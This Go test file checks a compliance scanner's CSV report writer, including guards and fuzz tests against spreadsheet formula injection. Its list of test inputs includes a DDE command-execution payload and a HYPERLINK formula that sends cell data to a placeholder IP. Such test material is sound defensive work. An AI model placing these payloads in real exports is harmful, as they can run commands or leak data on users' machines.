package csv_test

import (
	"bytes"
	stdcsv "encoding/csv"
	"encoding/json"
	"flag"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"isoscan/internal/assessment"
	"isoscan/internal/assessment/assessmenttest"
	"isoscan/reports/csv"

	"github.com/google/go-cmp/cmp"
)

var update = flag.Bool("update", false, "write the golden files anew")

func TestGolden(t *testing.T) {
	for name, a := range map[string]*assessment.Assessment{
		"rich": assessmenttest.Rich(t), "ledgered": assessmenttest.Ledgered(t), "nothing": assessmenttest.Nothing(t),
	} {
		golden(t, name+".csv", write(t, csv.New(), a))
		golden(t, name+".controls.csv", write(t, csv.NewControls(), a))
	}
	o := assessmenttest.Organisation(t, 3)
	golden(t, "organisation.csv", writeOrganisation(t, csv.New(), o))
	golden(t, "organisation.controls.csv", writeOrganisation(t, csv.NewControls(), o))
}

// Every violation and every unknown rule has its row; every control too.
func TestRows(t *testing.T) {
	all := assessmenttest.All(t)
	all["ledgered"] = assessmenttest.Ledgered(t)
	for name, a := range all {
		want, got := map[string]int{}, map[string]int{}
		for _, r := range a.Rules {
			switch r.Verdict {
			case assessment.Fail:
				want[r.ID+" fail"] = len(r.Violations)
			case assessment.Unknown:
				want[r.ID+" unknown"] = 1
			}
		}
		for _, row := range read(t, write(t, csv.New(), a)) {
			got[row["rule"]+" "+row["verdict"]]++
		}
		if d := cmp.Diff(want, got); d != "" || len(want) == 0 {
			t.Errorf("%s: findings -want +got\n%s", name, d)
		}
		register := read(t, write(t, csv.NewControls(), a))
		if len(register) != 127 || len(a.Controls) != 127 {
			t.Fatalf("%s: %d rows, %d controls", name, len(register), len(a.Controls))
		}
		for i, row := range register {
			c := a.Controls[i]
			if row["control"] != "ISO17799:2000/"+c.ID || row["verdict"] != string(c.Verdict) ||
				row["machine"] != string(c.Machine.State) || row["people"] != string(c.People.State) || row["adjusted"] != string(c.Adjusted) {
				t.Errorf("%s: control %s: %v", name, c.ID, row)
			}
		}
	}
	if got := len(read(t, write(t, csv.New(), all["hostile"]))); got < 1000 {
		t.Errorf("%d rows of the hostile assessment", got)
	}
}

func TestWaivedRowsKeepTheirVerdict(t *testing.T) {
	waived := 0
	for _, row := range read(t, write(t, csv.New(), assessmenttest.Ledgered(t))) {
		if row["waived"] == "yes" {
			waived++
			if row["verdict"] != "fail" || row["waiver"] == "" {
				t.Errorf("waived row: %v", row)
			}
		}
	}
	if waived == 0 {
		t.Error("no waived row")
	}
}

func TestOrganisation(t *testing.T) {
	o := assessmenttest.Organisation(t, 10)
	want, got := map[string]int{}, map[string]int{}
	for _, h := range o.Hosts {
		for _, f := range h.Findings {
			want[h.Host.Name+" fail"] += max(len(f.Violations), 1)
		}
		want[h.Host.Name+" unknown"] += len(h.Unseen)
		for k, n := range want {
			if n == 0 {
				delete(want, k)
			}
		}
	}
	for _, a := range o.NotAssessed {
		want[a.Host+" unknown"]++
	}
	hosts := map[string]string{}
	for _, r := range o.Rules {
		if r.Counts.Unknown > 0 {
			want[" unknown"]++
			hosts[r.ID] = strconv.Itoa(r.Counts.Unknown)
		}
	}
	for _, row := range read(t, writeOrganisation(t, csv.New(), o)) {
		got[row["host"]+" "+row["verdict"]]++
		if n := row["hosts_unknown"]; n != "" && n != hosts[row["rule"]] {
			t.Errorf("%s is unknown on %s hosts, want %s", row["rule"], n, hosts[row["rule"]])
		}
	}
	if d := cmp.Diff(want, got); d != "" || len(want) < 10 || len(o.NotAssessed) == 0 {
		t.Errorf("-want +got\n%s", d)
	}
	register := read(t, writeOrganisation(t, csv.NewControls(), o))
	if len(register) != 127 {
		t.Errorf("%d controls", len(register))
	}
	for i, row := range register {
		if c := o.Controls[i]; row["verdict"] != string(c.Verdict) || strings.Count(row["nonconforming"], " ") != max(len(c.Nonconforming)-1, 0) {
			t.Errorf("control %s: %v", c.ID, row)
		}
	}
}

// A statement has a row a line, and its exclusions and what is void of them show.
func TestStatement(t *testing.T) {
	a := assessmenttest.Ledgered(t)
	a.Ledger.Records[0].Statement = "=1+1"
	s := assessment.NewStatement(a.Controls, a.Clauses, a.Ledger)
	var out bytes.Buffer
	if err := csv.New().WriteStatement(&out, s); err != nil {
		t.Fatal(err)
	}
	golden(t, "statement.csv", out.Bytes())
	rows := read(t, out.Bytes())
	excluded := 0
	for i, row := range rows {
		l := s.Lines[i]
		if row["control"] != "ISO17799:2000/"+l.Control || unguard(row["justification"]) != l.Justification {
			t.Errorf("line %d: %v", i, row)
		}
		if row["applicable"] == "no" {
			excluded++
		}
	}
	if len(rows) != len(s.Lines) || len(rows) < 127 || excluded != 1 {
		t.Errorf("%d rows, %d excluded", len(rows), excluded)
	}
}

// formulas are texts that spreadsheets compute, or take for numbers and dates.
var formulas = []string{
	`=1+1`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, `  "=1+1`, `＝1+1`, `＋1`, `－1`, `＠SUM(1)`,
	`=cmd|' /C calc'!A0`, `=HYPERLINK("http://192.0.2.1/?"&A1,"x")`, `x;=1+1`, `x;"=1+1`, `x;;-2+3`, `x,=1+1`, `x"; =1+1`, `";=1+1`,
	"x\t=1+1", "x\r\n=1+1", `'=1+1`, `''=1+1`, `';'=1`, "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u202e=1+1", `"=1+1"`, `",="`,
	`0755`, `9.2.2`, `9.10`, `1/2`, `2026-06-01`, `12:30`, `1e9`, `'0755`, ` 5 `, `9.2.2.`,
}

// Undoing what the package comment says gives each text back, and no cell
// begins a formula even for a program that divides fields by semicolons.
func TestGuardIsReversible(t *testing.T) {
	for _, s := range append(formulas, assessmenttest.HostileTexts()...) {
		checkGuard(t, s)
	}
}

func FuzzGuard(f *testing.F) {
	for _, s := range append(formulas, assessmenttest.HostileTexts()...) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { checkGuard(t, s) })
}

func checkGuard(t *testing.T, s string) {
	t.Helper()
	out := write(t, csv.New(), assessmenttest.Flood(t, s))
	if !utf8.Valid(out) {
		t.Errorf("%q: no UTF-8", s)
	}
	want := assessment.Printable(s)
	for _, row := range read(t, out) {
		if got := unguard(row["title"]); got != want && len(want) < 16_000 {
			t.Fatalf("%q became %q, back %q", want, row["title"], got)
		}
		for key, c := range row {
			for _, r := range c {
				if !unicode.IsPrint(r) {
					t.Fatalf("%q: %s holds %U", s, key, r)
				}
			}
			if n := len(strings.Split(c, "")); n > 32_767 {
				t.Errorf("%q: %s has %d characters", s, key, n)
			}
			if at, found := formula(c); found {
				t.Fatalf("%q: %s begins a formula: %q", s, key, at)
			}
		}
	}
}

// formula finds a formula at the beginning of a cell, or of what a program takes
// for one that divides fields by semicolons or commas.
func formula(c string) (string, bool) {
	for _, part := range strings.FieldsFunc(" "+c, func(r rune) bool { return r == ';' || r == ',' }) {
		part = strings.TrimLeft(part, ` "`)
		if r, _ := utf8.DecodeRuneInString(part); strings.ContainsRune("=+-@＝＋－＠", r) {
			return part, true
		}
	}
	return "", false
}

// unguard does what the package comment tells a reader to do.
func unguard(c string) string {
	var b strings.Builder
	begins := true
	for _, r := range c {
		switch r {
		case ',', ';':
			begins = true
		case ' ', '"':
		case '\'':
			if begins {
				begins = false
				continue
			}
		default:
			begins = false
		}
		b.WriteRune(r)
	}
	return b.String()
}

// Python's reader of the Excel dialect reads the same as Go's.
func TestPythonReadsIt(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Fatal("python3 is missing: install the Debian package python3")
	}
	const program = `import csv, io, json, sys
rows = list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding="utf-8-sig", newline=""), strict=True))
print(json.dumps(rows))`
	for name, a := range assessmenttest.All(t) {
		out := write(t, csv.New(), a)
		cmd := exec.Command("python3", "-c", program)
		cmd.Stdin = bytes.NewReader(out)
		said, err := cmd.Output()
		if err != nil {
			t.Fatal(err)
		}
		var got [][]string
		if err := json.Unmarshal(said, &got); err != nil {
			t.Fatal(err)
		}
		if d := cmp.Diff(records(t, out), got); d != "" {
			t.Errorf("%s: -go +python\n%s", name, d)
		}
	}
}

// format is either of the two.
type format interface {
	Write(io.Writer, *assessment.Assessment) error
	WriteOrganisation(io.Writer, *assessment.Organisation) error
}

func write(t testing.TB, f format, a *assessment.Assessment) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := f.Write(&out, a); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func writeOrganisation(t testing.TB, f format, o *assessment.Organisation) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := f.WriteOrganisation(&out, o); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func records(t testing.TB, data []byte) [][]string {
	t.Helper()
	data, ok := bytes.CutPrefix(data, []byte("\xef\xbb\xbf"))
	if !ok || bytes.Count(data, []byte("\n")) != bytes.Count(data, []byte("\r\n")) {
		t.Fatal("no byte order mark, or a row does not end with CR LF")
	}
	rows, err := stdcsv.NewReader(bytes.NewReader(data)).ReadAll() // all rows as long as the first
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// read gives the rows by the names of the columns.
func read(t testing.TB, data []byte) []map[string]string {
	t.Helper()
	all := records(t, data)
	out := []map[string]string{}
	for _, row := range all[1:] {
		m := map[string]string{}
		for i, c := range row {
			m[all[0][i]] = c
		}
		out = append(out, m)
	}
	return out
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(want), string(got)); d != "" {
		t.Errorf("%s (-want +got); refresh with go test ./reports/csv -update\n%s", name, d)
	}
}
